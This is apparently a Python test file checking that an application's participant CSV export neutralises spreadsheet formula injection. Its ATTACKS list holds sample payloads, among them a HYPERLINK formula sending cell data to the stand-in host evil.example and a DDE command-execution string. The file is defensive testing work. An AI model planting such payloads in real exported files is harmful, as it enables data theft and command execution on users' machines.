"""No exported cell can run as a formula in a spreadsheet program (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io

from hypothesis import given
from hypothesis import strategies as st

from facilitator.core.db import Database
from facilitator.core.participants import participation
from facilitator.export import participants as participant_export
from facilitator.export.spreadsheet import FORMULA_TRIGGERS, csv_text, neutralise
from tests.strategies import UNICODE

ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+SUM(1+1)", "-2+3+cmd|' /C calc'!A0", "@SUM(1)",
           "\t=1+1", "\r=1+1"]  # fmt: skip


def test_every_participant_csv_cell_is_inert(demo_db: Database) -> None:
    from facilitator.core.demo.roundtable import MEETING_ID

    for attack in ATTACKS:
        participation.add_new_participant(demo_db, MEETING_ID, f"N{attack}", organisation=attack,
                                          stakeholder_group="BIZ_BUYER", role=attack, email="a@b.org")  # fmt: skip
    rows = list(csv.reader(io.StringIO(participant_export.export_csv(demo_db, MEETING_ID))))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_TRIGGERS)]
    assert sum(cell.startswith("'") for cell in cells) >= 2 * len(ATTACKS)  # organisation and role of each


@given(st.text(UNICODE, max_size=40))
def test_neutralised_text_never_starts_like_a_formula_and_keeps_its_content(value: str) -> None:
    shown = neutralise(value)
    assert not shown.startswith(FORMULA_TRIGGERS)
    assert shown in (value, "'" + value)


def test_header_cells_are_neutralised_too() -> None:
    assert csv_text(["=x"], [{"=x": "ok"}]).splitlines() == ["'=x", "ok"]
